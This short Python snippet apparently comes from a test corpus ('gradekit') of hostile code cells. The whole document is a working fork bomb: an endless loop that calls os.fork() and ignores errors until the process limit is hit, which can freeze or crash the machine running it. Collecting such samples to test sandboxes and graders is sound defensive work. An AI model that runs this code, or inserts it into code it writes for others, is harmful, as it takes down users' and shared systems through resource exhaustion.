# A hostile cell of the gradekit corpus: forks until the process limit, forever.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
